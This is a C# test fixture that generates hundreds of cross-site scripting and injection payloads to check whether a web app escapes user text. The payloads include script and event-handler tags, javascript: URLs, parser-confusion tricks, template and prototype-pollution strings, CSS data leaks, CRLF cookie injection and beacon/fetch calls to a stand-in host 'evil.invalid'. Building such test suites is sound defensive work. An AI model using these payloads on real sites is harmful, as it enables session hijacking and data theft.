using System.Globalization;
using System.Net;

namespace Vigil.EndToEnd.Tests.Payloads;

/// <summary>
/// Texts that want to be more than text, each with a number. Whatever runs calls <see cref="Hook"/> with it; whatever fetches asks
/// <see cref="Host"/>. Made of parts, so that each way to smuggle meets each place to smuggle it from; all of it written for these tests.
/// </summary>
internal static class HostileTexts
{
    /// <summary>The function that a script of theirs would call.</summary>
    public const string Hook = "__ran";

    /// <summary>The host that nobody has (RFC 2606).</summary>
    public const string Host = "evil.invalid";

    // %R runs, %U fetches.
    private static readonly string[] Carriers =
    [
        "<script>%R</script>",
        "<script src=%U></script>",
        "<img src=x onerror=%R>",
        "<img src=%U>",
        "<svg onload=%R>",
        "<svg><script>%R</script></svg>",
        "<svg><animate onbegin=%R attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%R'/>\">",
        "<iframe srcdoc=\"<script>parent.%R</script>\"></iframe>",
        "<iframe src=\"javascript:parent.%R\"></iframe>",
        "<input autofocus onfocus=%R>",
        "<details open ontoggle=%R>x</details>",
        "<video autoplay><source onerror=%R></video>",
        "<audio src=x onerror=%R></audio>",
        "<object data=\"javascript:%R\"></object>",
        "<embed src=\"javascript:%R\">",
        "<a href=\"javascript:%R\">tap me</a>",
        "<form action=\"javascript:%R\"><button autofocus>tap me</button></form>",
        "<button formaction=\"javascript:%R\">tap me</button>",
        "<link rel=stylesheet href=%U>",
        "<base href=%U>",
        "<meta http-equiv=refresh content=\"0;url=%U\">",
        "<style>@import '%U';</style>",
        "<div style=\"background:url(%U)\">x</div>",
        "<div style=\"animation:a\" onanimationstart=%R>x</div>",
        "<math><mi xlink:href=\"javascript:%R\">x</mi></math>",
        "<marquee onstart=%R>x</marquee>",
        "<custom-part contenteditable autofocus onfocusin=%R>x</custom-part>",
    ];

    // Out of wherever a page may have put the text.
    private static readonly string[] Ways =
    [
        "%",
        "\">%",
        "'>%",
        "</textarea>%",
        "</title></head><body>%",
        "</script>%",
        "--!>%",
        "</style>%",
        "`>%",
    ];

    private static readonly string[] Others =
    [
        // Attributes without a tag of their own.
        "\" onmouseover=%R x=\"", "' onmouseover=%R x='", "\" autofocus onfocus=%R x=\"", "x onpointerenter=%R", "\"style=\"position:fixed;inset:0\"onpointermove=\"%R", "` onerror=%R `", "\" srcdoc=\"<script>parent.%R</script>\" x=\"",

        // Addresses.
        "javascript:%R", "JaVaScRiPt:%R", "java\tscript:%R", "java\nscript:%R", "\u0001javascript:%R", "javascript://%0a%R", "javascript&colon;%R", "javascript&#58;%R", "&#106;avascript:%R", "vbscript:%R", "data:text/html,<script>%R</script>",
        "data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%R'/>", "view-source:%U", "blob:%U", "//evil.invalid/%N", "https:/\\evil.invalid/%N", "https://localhost@evil.invalid/%N", "https://evil.invalid\u3002example/%N", "file:///etc/passwd", "intent://evil.invalid/#Intent;scheme=https;end",

        // What writes links and pictures from marks.
        "[tap me](javascript:%R)", "![x](%U)", "![x](x\"onerror=\"%R)", "[x]: javascript:%R\n[x]", "<javascript:%R>", "[tap](<javascript:%R>)", "[tap](java&#115;cript:%R)", "```html\n<script>%R</script>\n```", "> <img src=x onerror=%R>", "|<svg onload=%R>|\n|-|\n|x|", "# <script>%R</script>", "<!-- <img src=x onerror=%R> -->", "[a](data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+)", "<%U>",

        // Templates.
        "{{constructor.constructor('%R')()}}", "{{%R}}", "${%R}", "#{%R}", "<%= %R %>", "@(%R)", "{{{%R}}}", "{% raw %}%R", "[[%R]]", "${{%R}}", "*{%R}", "<template><img src=x onerror=%R></template>", "<div v-html=\"'<img src=x onerror=%R>'\">", "<div ng-app>{{$eval.constructor('%R')()}}</div>", "<div x-data x-init=\"%R\">", "<div data-bind=\"html: '<img src=x onerror=%R>'\">",

        // Scripts and data that a page was written with.
        "';%R;//", "\";%R;//", "\\';%R;//", "\\\";%R;//", "`;%R;//", "${`${%R}`}", "*/%R/*", "\u2028%R//", "\u2029%R//", "</script><script>%R//", "<!--<script>", "\"}]};%R;//", "{\"__proto__\":{\"x\":\"<img src=x onerror=%R>\"}}", "{\"constructor\":{\"prototype\":{\"innerHTML\":\"<img src=x onerror=%R>\"}}}",
        "\",\"html\":\"<img src=x onerror=%R>", "\\u003cimg src=x onerror=%R\\u003e", "\\x3cimg src=x onerror=%R\\x3e", "\\74img src=x onerror=%R\\76", "callback=%R", "{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=%R>\"}}", "{\"$$typeof\":\"Symbol(react.element)\",\"type\":\"img\",\"props\":{\"onError\":\"%R\"}}",

        // What one parser closes and the next one opens.
        "<noscript><p title=\"</noscript><img src=x onerror=%R>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=%R&gt;\">", "<svg></p><style><a id=\"</style><img src=x onerror=%R>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%R>",
        "<svg><style><img src=\"</style><img src=x onerror=%R//\">", "<xmp><p title=\"</xmp><img src=x onerror=%R>\">", "<listing>&lt;img src=x onerror=%R&gt;</listing>", "<p id=\"&quot;><img src=x onerror=%R>\">", "<a\u00a0href=x onclick=%R>x</a>", "<img/src=x/onerror=%R>", "<img\u000csrc=x\u000conerror=%R>", "<<img src=x onerror=%R>", "<img src=x onerror=%R//", "<scr<script>ipt>%R</scr</script>ipt>", "<ScRiPt>%R</sCrIpT>", "<img src=x:x onerror\n=\n%R>",

        // Written otherwise.
        "&lt;img src=x onerror=%R&gt;", "&#60;img src=x onerror=%R&#62;", "&#x3c;img src=x onerror=%R&#x3e;", "&amp;lt;img src=x onerror=%R&amp;gt;", "%3Cimg%20src%3Dx%20onerror%3D%R%3E", "%253Cimg%2520src%253Dx%2520onerror%253D%R%253E", "+ADw-img src=x onerror=%R+AD4-", "\uff1cimg src=x onerror=%R\uff1e", "\u02c2img src=x onerror=%R\u02c3", "\u2039img src=x onerror=%R\u203a", "\ufe64img src=x onerror=%R\ufe65", "<\u0130mg src=x onerror=%R>", "<\u017fcript>%R</\u017fcript>",

        // What turns writing around, hides in it or is not to be seen.
        "\u202e<img src=x onerror=%R>", "photo\u202egpj.<script>%R</script>", "\u2066<svg onload=%R>\u2069", "\u200b<\u200bscript>%R</script>", "<scr\u200dipt>%R</script>", "\ufeff<script>%R</script>", "\u00ad<img src=x onerror=%R>", "\u061c<img src=x onerror=%R>", "e\u0301\u0327\u0315<svg onload=%R>", "\ud83d\udc68\u200d\ud83d\udcbb<svg onload=%R>", "\ufff9<svg onload=%R>\ufffb", "\ue000<svg onload=%R>", "\u0085<svg onload=%R>", "\u001b[31m<svg onload=%R>", "\u0008\u0008<svg onload=%R>", "\u007f<svg onload=%R>", "\r\nX-Ran: %R", "%0d%0aSet-Cookie:%20ran=%N%0d%0a%0d%0a<script>%R</script>",

        // Styles.
        "<style>*{background:url(%U)}</style>", "</style><style>input[value^=a]{background:url(%U)}</style>", "expression(%R)", "color:red;background-image:url(%U)", "}*{background:url(%U)}", "-moz-binding:url(%U)", "<link rel=preload as=image href=%U>", "<link rel=dns-prefetch href=%U>", "<link rel=modulepreload href=%U>", "<div style=\"--x:url(%U);background:var(--x)\">x</div>", "@font-face{font-family:x;src:url(%U)}",

        // What takes names from the page, and what calls home.
        "<img name=__ran>", "<form id=location><input name=href></form>", "<a id=vigil><a id=vigil name=url href=%U>", "<iframe name=top src=%U></iframe>", "<img src=x id=body><input name=children>", "<form id=__proto__>", "<picture><source srcset=%U><img></picture>", "<img srcset=\"%U 1x\">", "<video poster=%U></video>", "<track src=%U default>", "<input type=image src=%U>", "<body background=%U>", "<table background=%U>", "<a ping=%U href=#>tap me</a>", "<object data=%U></object>", "<embed src=%U>", "<svg><image href=%U /></svg>", "<svg><feImage href=%U /></svg>", "<bgsound src=%U>", "<portal src=%U></portal>", "<fencedframe src=%U></fencedframe>", "<frameset><frame src=%U></frameset>", "<html manifest=%U>", "<script type=module>import '%U'</script>", "<script>fetch('%U')</script>", "<script>new Image().src='%U'</script>", "<script>navigator.sendBeacon('%U')</script>", "<script type=importmap>{\"imports\":{\"x\":\"%U\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"%U\"]}]}</script>",
    ];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Carriers.SelectMany(c => Ways.Select(way => way.Replace("%", c, StringComparison.Ordinal))).Concat(Others).Select(Numbered)];

    /// <summary>Several to a text, so that few pages hold all: the ones that would swallow what follows stand last in theirs.</summary>
    public static IReadOnlyList<string> InBatches(int longest, char between = '\n')
    {
        var batches = new List<string>();
        foreach (var text in All)
        {
            if (batches.Count > 0 && batches[^1].Length + 1 + text.Length <= longest && !batches[^1].Contains("<!--", StringComparison.Ordinal))
            {
                batches[^1] += between + text;
            }
            else
            {
                batches.Add(text);
            }
        }

        return batches;
    }

    private static string Numbered(string text, int number) => text
        .Replace("%R", string.Create(CultureInfo.InvariantCulture, $"{Hook}({number})"), StringComparison.Ordinal)
        .Replace("%U", string.Create(CultureInfo.InvariantCulture, $"https://{Host}/{number}"), StringComparison.Ordinal)
        .Replace("%N", number.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);

    /// <summary>What stands in a page for a text that its server has escaped.</summary>
    public static bool StandsRaw(string page, string text) => text.Contains('<', StringComparison.Ordinal) && WebUtility.HtmlEncode(text) != text && page.Contains(text, StringComparison.Ordinal);
}
